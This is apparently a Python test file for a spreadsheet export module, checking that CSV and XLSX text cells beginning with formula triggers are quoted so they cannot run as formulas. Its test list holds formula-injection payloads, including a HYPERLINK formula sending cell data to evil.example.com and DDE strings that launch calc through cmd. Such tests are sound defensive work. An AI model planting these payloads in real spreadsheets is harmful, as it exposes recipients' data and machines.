"""The one rule for spreadsheet cells: no text cell is a formula, in CSV or XLSX."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from tendero.core.spreadsheets import (
    FORMULA_TRIGGERS,
    CsvWriter,
    XlsxSheet,
    csv_lines,
    neutralise,
    restore_cell,
    xlsx_workbook,
)

ATTACKS = [
    '=HYPERLINK("http://evil.example.com/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_formula_is_quoted(attack: str) -> None:
    assert neutralise(attack) == "'" + attack
    assert restore_cell(neutralise(attack)) == attack


@pytest.mark.parametrize("number", ["-5", "+34612345678", "-12.50", "1e3", "-.5"])
def test_a_plain_number_stays_readable(number: str) -> None:
    assert neutralise(number) == number


def test_csv_cells_are_neutralised_and_numbers_stay_numbers() -> None:
    handle = io.StringIO()
    CsvWriter(handle).writerow([ATTACKS[0], -5, Decimal("-1.50"), "-5", None, "Ana"])
    assert next(csv.reader(io.StringIO(handle.getvalue()))) == [
        "'" + ATTACKS[0], "-5", "-1.50", "-5", "", "Ana",
    ]  # fmt: skip
    lines = list(csv_lines([["name"], ["=1+1"]]))
    assert lines == ["\ufeffname\r\n", "'=1+1\r\n"]


def test_xlsx_text_cells_are_strings_never_formulas() -> None:
    workbook = xlsx_workbook()
    sheet = XlsxSheet(workbook, "Customers")
    for attack in ATTACKS:
        sheet.append([attack, -5, "Old data with \x1b escape", ""])
    handle = io.BytesIO()
    workbook.save(handle)
    handle.seek(0)

    read = openpyxl.load_workbook(handle).active
    rows = list(read.iter_rows())
    # (XML reads a carriage return as a line feed.)
    assert [row[0].value for row in rows] == ["'" + a.replace("\r", "\n") for a in ATTACKS]
    assert all(cell.data_type != "f" for row in rows for cell in row)
    assert [row[1].value for row in rows] == [-5] * len(ATTACKS)
    assert rows[0][2].value == "Old data with \ufffd escape"


@given(st.text(max_size=30))
def test_no_neutralised_text_starts_a_formula_and_the_importer_gets_it_back(text: str) -> None:
    cell = neutralise(text)
    assert cell[:1] not in FORMULA_TRIGGERS or cell.lstrip("+-")[:1].isdigit() or cell[:2] in (
        "-.", "+."
    )  # fmt: skip
    assert restore_cell(cell) == text
